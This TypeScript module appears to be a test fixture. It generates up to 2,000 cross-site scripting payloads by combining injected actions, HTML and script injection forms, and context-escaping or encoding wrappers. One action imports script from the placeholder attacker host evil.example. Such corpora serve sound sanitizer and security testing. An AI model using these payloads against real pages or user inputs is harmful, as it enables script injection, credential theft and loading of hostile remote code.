const actions = [
  "document.title='executed'",
  'alert(1)',
  "import('https://evil.example/x.js')",
  'eval(name)',
];

const forms: ReadonlyArray<(action: string) => string> = [
  (action) => `<script>${action}</script>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<svg onload="${action}">`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<iframe srcdoc="<script>${action}</script>">`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `javascript:${action}`,
  (action) => `data:text/html,<script>${action}</script>`,
  (action) => `<details open ontoggle="${action}">`,
  (action) => `<body onload="${action}">`,
  (action) => `<input autofocus onfocus="${action}">`,
  (action) => `<style>@import 'javascript:${action}'</style>`,
  (action) => `<math><mtext></form><img src onerror="${action}"></math>`,
  (action) => `<template><img src onerror="${action}"></template>`,
  (action) => `<object data="javascript:${action}">`,
  (action) => `<base href="javascript:${action}//">`,
  (action) => `<meta http-equiv="refresh" content="0;url=javascript:${action}">`,
  (action) => `{{constructor.constructor("${action}")()}}`,
  (action) => `\${${action}}`,
  (action) => `<!--${action}--><img src onerror="${action}">`,
];

const surroundings: ReadonlyArray<(markup: string) => string> = [
  (markup) => markup,
  (markup) => `"${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `"/>${markup}`,
  (markup) => `</script>${markup}`,
  (markup) => `</style>${markup}`,
  (markup) => `</textarea>${markup}`,
  (markup) => `]]>${markup}`,
  (markup) => `-->${markup}`,
  (markup) => markup.toUpperCase(),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replaceAll(' ', '\t\n'),
  (markup) => `\u202E${markup}`,
  (markup) => `\u2028${markup}`,
  (markup) => `<<${markup}>>`,
  (markup) => `\\u003c${markup}`,
  (markup) => `;${markup}//`,
  (markup) => `\`${markup}\``,
  (markup) => `&#x3C;${markup}`,
  (markup) => `${markup}${markup}`,
  (markup) => `<b>${markup}`,
  (markup) => `%00${markup}`,
  (markup) => `x=${markup}`,
  (markup) => `${markup}&amp;`,
  (markup) => `</title>${markup}`,
];

/** 2,000 different texts, each of which does something where a page takes it for markup, code or an address (T17). */
export function markup(): readonly string[] {
  const all = actions.flatMap((action) =>
    forms.flatMap((form) => surroundings.map((around) => around(form(action)))),
  );
  return [...new Set(all)].slice(0, 2000);
}
